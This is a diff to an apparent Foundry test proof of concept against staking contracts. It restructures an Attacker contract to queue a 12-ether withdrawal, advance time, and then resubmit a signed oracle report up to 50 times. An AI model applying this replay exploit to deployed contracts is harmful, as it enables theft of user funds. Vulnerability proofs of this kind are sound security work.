@@ -5,16 +5,20 @@ pragma solidity 0.8.30;
 import "../Base.sol";
 
 contract Attacker {
+    uint256 private id;
+
+    function ask(StakeToken token, WithdrawalQueue queue) external {
+        token.approve(address(queue), type(uint256).max);
+        id = queue.request(12 ether, address(this));
+    }
+
     function run(
-        StakeToken token,
         WithdrawalQueue queue,
         StakePool pool,
         ReportOracle oracle,
         IReports.Report calldata report,
         bytes[] calldata signatures
     ) external {
-        token.approve(address(queue), type(uint256).max);
-        uint256 id = queue.request(12 ether, address(this));
         for (uint256 i = 0; i < 50; i++) {
             try oracle.submit(report, signatures) {} catch {
                 break;
@@ -38,7 +42,9 @@ contract Proof is Base {
     }
 
     function exploit() public {
-        other.run(token, queue, pool, oracle, _report(3, 13 ether, 0), signatures);
+        other.ask(token, queue);
+        vm.warp(block.timestamp + 1 days);
+        other.run(queue, pool, oracle, _report(3, 13 ether, 0), signatures);
     }
 
     function test_Exploit() public {
